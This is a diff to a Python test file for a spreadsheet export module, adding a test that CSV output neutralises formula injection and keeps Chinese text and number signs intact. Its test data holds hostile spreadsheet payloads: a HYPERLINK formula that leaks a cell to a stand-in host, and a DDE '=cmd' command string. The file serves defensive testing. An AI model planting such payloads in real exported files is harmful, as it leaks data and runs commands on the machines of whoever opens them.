@@ -8,7 +8,7 @@ from pathlib import Path
 import pandas as pd
 from openpyxl import load_workbook
 
-from chanye.export import write_xlsx
+from chanye.export import write_frame, write_xlsx
 
 HOSTILE = [
     '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
@@ -35,3 +35,15 @@ def test_text_that_looks_like_a_formula_stays_text(tmp_path: Path) -> None:
         xml = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
     assert "<f>" not in xml and "<f " not in xml
     assert "=cmd|' /C calc'!A0" in xml
+
+
+def test_csv_text_cells_cannot_start_a_formula(tmp_path: Path) -> None:
+    frame = pd.DataFrame({"name": [*HOSTILE, "示例甲公司", None], "revenue": [1.5, -2.0, 0.0, 3, 4, None, 7]})
+    path = write_frame(frame, tmp_path / "out.csv")
+    raw = path.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads the UTF-8 Chinese
+    back = pd.read_csv(path, encoding="utf-8-sig")
+    assert back["name"].tolist()[:6] == ["'" + h for h in HOSTILE] + ["示例甲公司"]
+    assert pd.isna(back["name"].iloc[6])
+    assert back["revenue"].tolist()[:5] == [1.5, -2.0, 0.0, 3.0, 4.0]  # numbers keep their sign
+    assert frame["name"].iloc[0] == HOSTILE[0]  # the caller's frame is not changed
